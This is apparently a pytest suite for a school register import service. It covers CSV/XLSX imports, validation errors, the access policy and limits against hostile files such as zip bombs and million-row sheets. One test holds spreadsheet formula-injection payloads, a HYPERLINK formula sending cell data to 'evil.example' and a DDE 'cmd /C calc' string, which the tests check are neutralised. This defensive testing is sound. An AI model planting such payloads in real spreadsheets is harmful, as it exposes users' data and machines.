"""Import of the school's registers: good files, re-imports, rejected files, policy."""

from __future__ import annotations

import datetime as dt
import functools
from collections.abc import Callable, Sequence
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from services.enums import Role
from services.errors import AccessDenied
from services.imports import KINDS, import_file, template_csv, template_xlsx
from services.models import (
    Account,
    AuditEntry,
    BellTime,
    Enrolment,
    Guardianship,
    Person,
    RoleGrant,
    SchoolClass,
    Subgroup,
    Subject,
    TeachingAssignment,
    TimetableEntry,
)
from tests.admin.helpers import count, csv_bytes, xlsx_bytes
from tests.factories import SchoolWorld

STAFF = [
    ["Табельный номер", "Фамилия", "Имя", "Отчество", "Дата рождения", "Роли", "Телефон"],
    ["T-1", "Новикова", "Алла", "Борисовна", "01.02.1980", "учитель", "+7999"],
    ["T-2", "Орлов", "Борис", "", "1975-05-06", "учитель, классный руководитель", ""],
]
SUBJECTS = [
    ["Код предмета", "Предмет", "Краткое название"],
    ["PHYS", "Физика", "Физ."],
    ["MATH", "Математика", "Матем."],  # adopts the existing subject by name
]
CLASSES = [["Код класса", "Класс", "Классный руководитель"], ["C-9V", "9В", "T-2"]]
STUDENTS = [
    ["ID обучающегося", "Фамилия", "Имя", "Класс", "Дата зачисления"],
    ["S-1", "Ёлкина", "Вера", "9В", ""],
    ["S-2", "Зайцев", "Глеб", "9в", "15.09.2026"],
]
PARENTS = [["ID родителя", "Фамилия", "Имя", "Дети"], ["P-1", "Ёлкин", "Дмитрий", "S-1, S-2"]]
ASSIGNMENTS = [
    ["Учитель", "Класс", "Предмет", "Подгруппа", "Часов в неделю"],
    ["T-1", "9В", "PHYS", "", "2"],
    ["T-2", "9В", "Математика", "Группа А", "5"],
]
TIMETABLE = [
    ["Класс", "Подгруппа", "День недели", "Урок", "Предмет", "Учитель", "Кабинет"],
    ["9В", "", "Пн", "1", "PHYS", "T-1", "21"],
    ["9В", "Группа А", "вторник", "2", "MATH", "T-2", "14"],
]
BELLS = [
    ["Смена", "Урок", "Начало", "Конец"],
    ["1", "1", "08:30", "09:15"],
    ["", "2", "9:25", "10:10"],
]


def encode(fmt: str, rows: Sequence[Sequence[object]]) -> tuple[str, bytes]:
    if fmt == "xlsx":
        return "file.xlsx", xlsx_bytes(rows)
    if fmt == "csv,":
        return "file.csv", csv_bytes(rows, delimiter=",", bom=False)
    return "file.csv", csv_bytes(rows)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_every_kind_imports_and_reimports_without_duplicates(
    session: AsyncSession, world: SchoolWorld, fmt: str
) -> None:
    admin = world.actors["admin"]
    steps: list[tuple[str, list[list[str]], tuple[int, int]]] = [
        ("staff", STAFF, (2, 0)),
        ("subjects", SUBJECTS, (1, 1)),
        ("classes", CLASSES, (1, 0)),
        ("students", STUDENTS, (2, 0)),
        ("parents", PARENTS, (1, 0)),
        ("assignments", ASSIGNMENTS, (2, 0)),
        ("timetable", TIMETABLE, (2, 0)),
        ("bells", BELLS, (0, 2)),  # the world has bells 1..7 at other times
    ]
    seen: list[tuple[int, int]] = []
    for kind, rows, expected in steps:
        name, data = encode(fmt, rows)
        res = await import_file(session, admin, kind, name, data)
        assert res.ok, (kind, res.error_lines())
        assert res.applied
        seen.append((res.created, res.updated))
        assert (res.created, res.updated) == expected, kind
    # Importing everything again changes nothing and duplicates nothing.
    persons = await count(session, Person)
    for kind, rows, _ in steps:
        name, data = encode(fmt, rows)
        res = await import_file(session, admin, kind, name, data)
        assert res.ok and (res.created, res.updated, res.unchanged) == (0, 0, len(rows) - 1), kind
    assert await count(session, Person) == persons

    t2 = await session.scalar(select(Person).where(Person.external_id == "T-2"))
    assert t2 is not None and t2.birth_date == dt.date(1975, 5, 6)
    roles = set(await session.scalars(select(RoleGrant.role).where(RoleGrant.person_id == t2.id)))
    assert roles == {Role.TEACHER, Role.CLASS_TEACHER}
    assert await count(session, Account, Account.person_id == t2.id) == 1
    cls = await session.scalar(select(SchoolClass).where(SchoolClass.name == "9В"))
    assert cls is not None and cls.grade == 9 and cls.class_teacher_id == t2.id
    assert await count(session, Enrolment, Enrolment.class_id == cls.id) == 2
    s2 = await session.scalar(select(Person).where(Person.external_id == "S-2"))
    assert s2 is not None
    enrol = await session.scalar(select(Enrolment).where(Enrolment.student_id == s2.id))
    assert enrol is not None and enrol.arrived_on == dt.date(2026, 9, 15)
    assert await count(session, Guardianship, Guardianship.student_id == s2.id) == 1
    math = await session.scalar(select(Subject).where(Subject.name == "Математика"))
    assert math is not None and math.external_id == "MATH"
    assert await count(session, Subgroup, Subgroup.class_id == cls.id) == 1
    assert await count(session, TeachingAssignment, TeachingAssignment.class_id == cls.id) == 2
    assert await count(session, TimetableEntry, TimetableEntry.class_id == cls.id) == 2
    bell = await session.scalar(select(BellTime).where(BellTime.number == 2))
    assert bell is not None and bell.starts_at == dt.time(9, 25)
    summaries = await count(session, AuditEntry, AuditEntry.action == "import")
    assert summaries == 2 * len(steps)
    assert await count(session, AuditEntry, AuditEntry.action == "import.person_create") == 5


async def test_reimport_updates_and_transfers(session: AsyncSession, world: SchoolWorld) -> None:
    admin = world.actors["admin"]
    for kind, rows in (("staff", STAFF), ("classes", CLASSES), ("students", STUDENTS)):
        assert (await import_file(session, admin, kind, "f.csv", csv_bytes(rows))).ok
    changed = [
        STUDENTS[0],
        ["S-1", "Ёлкина-Смирнова", "Вера", "9В", ""],
        ["S-2", "Зайцев", "Глеб", "7А", "20.11.2026"],  # moved to 7А
    ]
    res = await import_file(session, admin, "students", "f.csv", csv_bytes(changed))
    assert res.ok and (res.created, res.updated, res.unchanged) == (0, 2, 0)
    s2 = await session.scalar(select(Person).where(Person.external_id == "S-2"))
    assert s2 is not None
    enrols = (
        await session.scalars(
            select(Enrolment).where(Enrolment.student_id == s2.id).order_by(Enrolment.arrived_on)
        )
    ).all()
    assert [(r.class_id, r.left_on) for r in enrols] == [
        (enrols[0].class_id, dt.date(2026, 11, 20)),
        (world.cls.id, None),
    ]
    entry = await session.scalar(
        select(AuditEntry).where(AuditEntry.action == "import.person_update")
    )
    assert entry is not None and entry.after == {"last_name": "Ёлкина-Смирнова"}


BAD_FILES: dict[str, tuple[list[list[str]], list[tuple[int, str | None, str]]]] = {
    "staff": (
        [
            STAFF[0],
            ["T-1", "Новикова", "Алла", "", "31.02.1980", "учитель", ""],
            ["T-9", "", "Пётр", "", "", "садовник", ""],
            ["T-1", "Дубль", "Дубль", "", "", "учитель", ""],
        ],
        [
            (2, "Дата рождения", "bad_date"),
            (3, "Фамилия", "required"),
            (3, "Роли", "bad_role"),
            (4, "Табельный номер", "duplicate_in_file"),
        ],
    ),
    "students": (
        [
            STUDENTS[0],
            ["S-1", "Ёлкина", "Вера", "12Я", ""],
            ["S-2", "Зайцев", "Глеб", "7А", "1.1.2020"],
        ],
        [(2, "Класс", "unknown_class"), (3, "Дата зачисления", "date_outside_year")],
    ),
    "parents": (
        [PARENTS[0], ["P-1", "Ёлкин", "Дмитрий", "S-404"]],
        [(2, "Дети", "unknown_student")],
    ),
    "classes": (
        [CLASSES[0], ["C-1", "12Я", ""], ["C-2", "8Б", "T-404"]],
        [
            (2, "Класс", "bad_class_name"),
            (3, "Классный руководитель", "unknown_staff"),
        ],
    ),
    "subjects": (
        [SUBJECTS[0], ["X", "Физика", ""], ["Y", "Физика", ""]],
        [(3, "Предмет", "duplicate_in_file")],
    ),
    "assignments": (
        [ASSIGNMENTS[0], ["T-404", "7А", "Химия", "", "много"]],
        [
            (2, "Учитель", "unknown_staff"),
            (2, "Предмет", "unknown_subject"),
            (2, "Часов в неделю", "bad_number"),
        ],
    ),
    "timetable": (
        [TIMETABLE[0], ["7А", "", "Funday", "14", "Математика", "", ""]],
        [(2, "День недели", "bad_weekday"), (2, "Урок", "bad_number"), (2, "Учитель", "required")],
    ),
    "bells": (
        [BELLS[0], ["1", "1", "09:15", "08:30"], ["1", "2", "25:00", "10:10"]],
        [
            (2, "Конец", "time_order"),
            (3, "Начало", "bad_time"),
        ],
    ),
}


async def test_a_bad_file_is_rejected_whole_with_every_error_named(
    session: AsyncSession, world: SchoolWorld
) -> None:
    for kind in sorted(BAD_FILES):
        rows, expected = BAD_FILES[kind]
        fmt = "xlsx" if kind in ("staff", "timetable") else "csv"
        name, data = encode(fmt, rows)
        before = {m: await count(session, m) for m in (Person, SchoolClass, Subject, BellTime)}
        res = await import_file(session, world.actors["admin"], kind, name, data)
        assert not res.ok and not res.applied
        got = [(e.row, e.column, e.code.removeprefix("import.error.")) for e in res.errors]
        assert got == expected, kind
        assert res.summary("ru").startswith("Файл не загружен")
        for line in res.error_lines("ru"):
            assert line.startswith("Строка ")
        assert res.error_lines("en")[0].startswith("Row ")
        after = {m: await count(session, m) for m in before}
        assert after == before
        assert await count(session, AuditEntry, AuditEntry.action.like("import%")) == 0


async def test_valid_rows_are_not_applied_when_another_row_is_bad(
    session: AsyncSession, world: SchoolWorld
) -> None:
    rows = [*STAFF, ["T-3", "Плохой", "Роль", "", "", "дворник", ""]]
    res = await import_file(session, world.actors["admin"], "staff", "s.csv", csv_bytes(rows))
    assert [e.row for e in res.errors] == [4]
    assert await count(session, Person, Person.external_id.in_(["T-1", "T-2"])) == 0


async def test_missing_column_and_unreadable_files(
    session: AsyncSession, world: SchoolWorld
) -> None:
    admin = world.actors["admin"]
    res = await import_file(
        session, admin, "staff", "s.csv", csv_bytes([["Фамилия", "Имя"], ["А", "Б"]])
    )
    assert {(e.row, e.column) for e in res.errors} == {(1, "Табельный номер"), (1, "Роли")}
    res = await import_file(session, admin, "staff", "s.xlsx", b"PK\x03\x04 broken")
    assert res.errors[0].code == "import.error.unreadable" and res.errors[0].row == 0
    res = await import_file(session, admin, "staff", "s.csv", b"")
    assert res.errors[0].code == "import.error.empty_file"
    assert "Файл" in res.error_lines()[0]


async def test_policy_admin_imports_deputy_only_the_timetable(
    session: AsyncSession, world: SchoolWorld
) -> None:
    with pytest.raises(AccessDenied):
        await import_file(session, world.actors["deputy"], "staff", "s.csv", csv_bytes(STAFF))
    with pytest.raises(AccessDenied):
        await import_file(session, world.actors["teacher"], "timetable", "t.csv", b"")
    rows = [TIMETABLE[0], ["7А", "", "Ср", "3", "Математика", "", "5"]]
    teacher_ext = "T-77"
    world.teacher.external_id = teacher_ext
    await session.commit()
    rows[1][5] = teacher_ext
    res = await import_file(session, world.actors["deputy"], "timetable", "t.csv", csv_bytes(rows))
    assert res.ok and res.created == 1


async def test_dry_run_and_progress(session: AsyncSession, world: SchoolWorld) -> None:
    calls: list[tuple[int, int]] = []

    async def progress(done: int, total: int) -> None:
        calls.append((done, total))

    res = await import_file(
        session, world.actors["admin"], "staff", "s.csv", csv_bytes(STAFF), dry_run=True
    )
    assert res.ok and res.created == 2 and not res.applied
    assert "Проверка без записи" in res.summary()
    assert await count(session, Person, Person.external_id == "T-1") == 0
    sync_calls: list[int] = []
    progress_sync: Callable[[int, int], None] = lambda d, t: sync_calls.append(d)  # noqa: E731
    res = await import_file(
        session, world.actors["admin"], "staff", "s.csv", csv_bytes(STAFF), progress=progress
    )
    assert calls == [(1, 2), (2, 2)]
    res = await import_file(
        session, world.actors["admin"], "staff", "s.csv", csv_bytes(STAFF), progress=progress_sync
    )
    assert sync_calls == [1, 2] and res.unchanged == 2


@pytest.mark.parametrize("kind", sorted(KINDS))
async def test_templates_are_importable_headers(kind: str) -> None:
    from openpyxl import load_workbook

    from services.imports import reader

    sheet = reader.read("t.csv", template_csv(kind))
    assert sheet.header == [c.ru for c in KINDS[kind].columns]
    assert len(sheet.rows) == len(KINDS[kind].examples)
    import io

    wb = load_workbook(io.BytesIO(template_xlsx(kind)))
    assert [c.value for c in wb.worksheets[0][1]] == sheet.header
    assert wb.sheetnames[1] == "Справка"


@pytest.mark.committed
async def test_overlapping_import_names_the_row_and_logs_no_personal_data(
    session: AsyncSession,
    session_factory: Any,
    world: SchoolWorld,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Two imports of one parents file at once: the second one's insert is refused by the
    database. The log and the message name the row, never the names, phones or e-mails."""
    from services.imports import core

    world.students[0].external_id = "S-7001"
    await session.commit()
    rows = [
        ["ID родителя", "Фамилия", "Имя", "Телефон", "Эл. почта", "Дети"],
        ["P-7001", "Черноморова", "Аглая", "+79161234567", "aglaya.ch@example.org", "S-7001"],
        ["P-7002", "Белозерская", "Лукерья", "+79167654321", "luk.bel@example.org", "S-7001"],
    ]
    original = core._persons_by_ext

    async def other_import_wins(ctx: Any) -> Any:
        """The other import commits the second parent after this one has read the school."""
        found = await original(ctx)
        async with session_factory() as other:
            other.add(
                Person(
                    school_id=world.school.id,
                    external_id="P-7002",
                    last_name="Белозерская",
                    first_name="Лукерья",
                    phone="+79167654321",
                    email="luk.bel@example.org",
                )
            )
            await other.commit()
        return found

    monkeypatch.setattr(core, "_persons_by_ext", other_import_wins)
    caplog.set_level("DEBUG")
    res = await import_file(session, world.actors["admin"], "parents", "p.csv", csv_bytes(rows))
    assert not res.ok and not res.applied
    assert [(e.row, e.column, e.code) for e in res.errors] == [
        (3, "ID родителя", "import.error.database")
    ]
    shown = res.error_lines("ru")[0]
    assert shown.startswith("Строка 3, столбец «ID родителя»: база данных не приняла")
    assert await count(session, Person, Person.external_id == "P-7001") == 0
    records = [r for r in caplog.records if r.name.startswith(("services", "sqlalchemy"))]
    assert any(r.getMessage() == "import refused by the database" for r in records)
    logged = "\n".join(
        f"{r.getMessage()} {r.__dict__} {caplog.handler.format(r)}" for r in caplog.records
    )
    for private in ("Черноморова", "Белозерская", "Лукерья", "+7916", "example.org"):
        assert private not in logged
    assert "S-7001" not in shown and "+7916" not in "\n".join(res.error_lines("en"))


async def test_control_characters_are_refused_with_row_and_column(
    session: AsyncSession, world: SchoolWorld
) -> None:
    for kind, table in (("staff", STAFF), ("classes", CLASSES)):
        res = await import_file(session, world.actors["admin"], kind, "f.csv", csv_bytes(table))
        assert res.ok
    rows = [list(r) for r in STUDENTS]
    rows[1][2] = "Ве\x00ра"
    rows[2][1] = "Зайцев\x1b"
    rows.append(["S-3", "Тихонова", "Майя\tАнна", "9В", ""])  # a tab is just a space
    res = await import_file(session, world.actors["admin"], "students", "s.csv", csv_bytes(rows))
    assert [(e.row, e.column, e.code) for e in res.errors] == [
        (2, "Имя", "import.error.control_char"),
        (3, "Фамилия", "import.error.control_char"),
    ]
    assert res.error_lines("ru")[0] == (
        "Строка 2, столбец «Имя»: недопустимый невидимый управляющий символ (U+0000)"
        " — удалите его из ячейки"
    )
    assert (
        "(U+001B)" in res.error_lines("en")[1] and "control character" in res.error_lines("en")[1]
    )
    assert await count(session, Person, Person.external_id.like("S-%")) == 0


# --------------------------------------------------------------------------- hostile files


def _xlsx_with_sheet(write_rows: Callable[[Any], None], rows: int) -> bytes:
    """A real workbook whose first sheet's rows are streamed in by ``write_rows(fh)`` (the
    sheet's dimension says ``rows`` rows, as Excel writes it)."""
    import io
    import zipfile

    base = xlsx_bytes([["Табельный номер", "Фамилия"], ["T-1", "x"]])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, src.read(info))
                continue
            head = src.read(info).partition(b"<sheetData>")[0]
            head = head.replace(b'ref="A1:B2"', b'ref="A1:B%d"' % rows)
            with dst.open(info.filename, "w") as fh:
                fh.write(head + b"<sheetData>")
                write_rows(fh)
                fh.write(b"</sheetData></worksheet>")
    return out.getvalue()


@functools.cache
def million_row_xlsx() -> bytes:
    """1,000,000 tiny rows under a header: 2.6 MB packed, 31 MB unpacked."""

    def write(fh: Any) -> None:
        fh.write(b'<row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c></row>')
        for start in range(2, 1_000_002, 10_000):
            fh.write(
                b"".join(b"<row><c><v>%d</v></c></row>" % n for n in range(start, start + 10_000))
            )

    return _xlsx_with_sheet(write, 1_000_001)


def _counting(monkeypatch: pytest.MonkeyPatch, name: str) -> list[int]:
    """Count the rows the reader's ``name`` generator hands out."""
    from services.imports import reader

    original = getattr(reader, name)
    counted = [0]

    def counting(data: bytes) -> Any:
        for record in original(data):
            counted[0] += 1
            yield record

    monkeypatch.setattr(reader, name, counting)
    return counted


async def test_a_million_row_xlsx_is_refused_at_the_limit(
    session: AsyncSession, world: SchoolWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tracemalloc

    from services.imports import reader

    data = million_row_xlsx()
    read = _counting(monkeypatch, "xlsx_records")
    res = await import_file(session, world.actors["admin"], "staff", "big.xlsx", data)
    assert [(e.row, e.code) for e in res.errors] == [(0, "import.error.too_many_rows")]
    assert res.error_lines("ru") == ["Файл: в файле больше 20000 строк"]
    # The header and the limit's rows, then the one row too many: nothing after it is read.
    assert read == [1 + reader.MAX_ROWS + 1]
    tracemalloc.start()
    try:
        with pytest.raises(reader.UnreadableFile):
            reader.read("big.xlsx", data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 * 1024 * 1024  # a million rows held would take hundreds of MB


def test_a_long_csv_is_read_only_up_to_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    from services.imports import reader

    data = ("ID;Фамилия\r\n" + "".join(f"T-{n};x\r\n" for n in range(300_000))).encode()
    read = _counting(monkeypatch, "csv_records")
    with pytest.raises(reader.UnreadableFile) as refused:
        reader.read("big.csv", data)
    assert refused.value.code == "import.error.too_many_rows"
    assert read == [1 + reader.MAX_ROWS + 1]


def test_rows_and_lines_too_wide_are_refused() -> None:
    from services.imports import reader

    wide = ";".join(["x"] * (reader.MAX_COLUMNS + 1))
    with pytest.raises(reader.UnreadableFile) as refused:
        reader.read("w.csv", f"ID;Фамилия\r\nT-1;x\r\n{wide}\r\n".encode())
    assert (refused.value.code, refused.value.params["row"]) == ("import.error.too_many_columns", 3)
    # Trailing empty cells (as spreadsheets export them) are no problem.
    sheet = reader.read("w.csv", ("ID;Фамилия" + ";" * 500 + "\r\nT-1;x\r\n").encode())
    assert sheet.header == ["ID", "Фамилия"] and sheet.rows == [(2, ["T-1", "x"])]
    # The delimiter is sniffed from the first non-empty line.
    sheet = reader.read("c.csv", "\r\n\r\nID,Фамилия\r\nT-1,x\r\n".encode())
    assert sheet.header == ["ID", "Фамилия"] and sheet.rows == [(4, ["T-1", "x"])]
    with pytest.raises(reader.UnreadableFile) as refused:
        reader.read("l.csv", b"ID;x\r\n" + b";" * (reader.MAX_LINE_CHARS + 1))
    assert (refused.value.code, refused.value.params["row"]) == ("import.error.line_too_long", 2)


@pytest.mark.parametrize("bomb", ["ratio", "size", "entries"])
def test_zip_bombs_are_refused_from_the_zip_directory(
    monkeypatch: pytest.MonkeyPatch, bomb: str
) -> None:
    import io
    import zipfile

    import openpyxl

    from services.imports import reader

    if bomb == "entries":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for n in range(reader.MAX_ZIP_ENTRIES + 1):
                archive.writestr(f"x/{n}.xml", b"")
        data = out.getvalue()
    else:
        size = 8 * 1024 * 1024 if bomb == "ratio" else reader.MAX_UNPACKED_BYTES + 1

        def write(fh: Any) -> None:
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                fh.write(chunk)
            fh.write(b" " * (size % len(chunk)))

        data = _xlsx_with_sheet(write, 2)
    assert len(data) < 1024 * 1024

    def unpacked(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the bomb was opened")

    monkeypatch.setattr(openpyxl, "load_workbook", unpacked)
    with pytest.raises(reader.UnreadableFile) as refused:
        reader.read("bomb.xlsx", data)
    assert refused.value.code == "import.error.unpacked_too_big"


def test_csv_cells_never_start_a_formula_and_read_back_as_typed() -> None:
    from services.imports import reader
    from services.sheet_cells import csv_cell

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
    for value, written in (
        (evil, "'" + evil),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("+79990000002", "+79990000002"),
        ("-5", "-5"),
        ("Ива\x00нов", "Иванов"),
    ):
        assert csv_cell(value) == written
        assert reader.cell_text(written) == written.removeprefix("'")
    sheet = reader.read("t.csv", csv_bytes([["ID", "Фамилия"], ["S-1", csv_cell(evil)]]))
    assert reader.cell_text(sheet.rows[0][1][1]) == evil


async def test_stages_are_told_while_a_file_is_read_and_checked(
    session: AsyncSession, world: SchoolWorld
) -> None:
    from services.imports import core
    from services.imports.messages import t

    rows = [STAFF[0]] + [[f"T-{n}", "Новиков", "Олег", "", "", "учитель", ""] for n in range(450)]
    stages: list[tuple[str, int, int]] = []
    res = await import_file(
        session,
        world.actors["admin"],
        "staff",
        "s.csv",
        csv_bytes(rows),
        stage=lambda name, done, total: stages.append((name, done, total)),
        dry_run=True,
    )
    assert res.ok and res.created == 450
    batch = core.CHECK_BATCH
    assert stages == [("read", 450, 450), ("check", batch, 450), ("check", 2 * batch, 450)]
    assert t("ru", "import.progress.check", done=200, total=450) == "Проверено строк: 200 из 450…"
    assert (
        t("en", "import.progress.read", rows=450) == "File read: 450 data rows. Checking the rows…"
    )
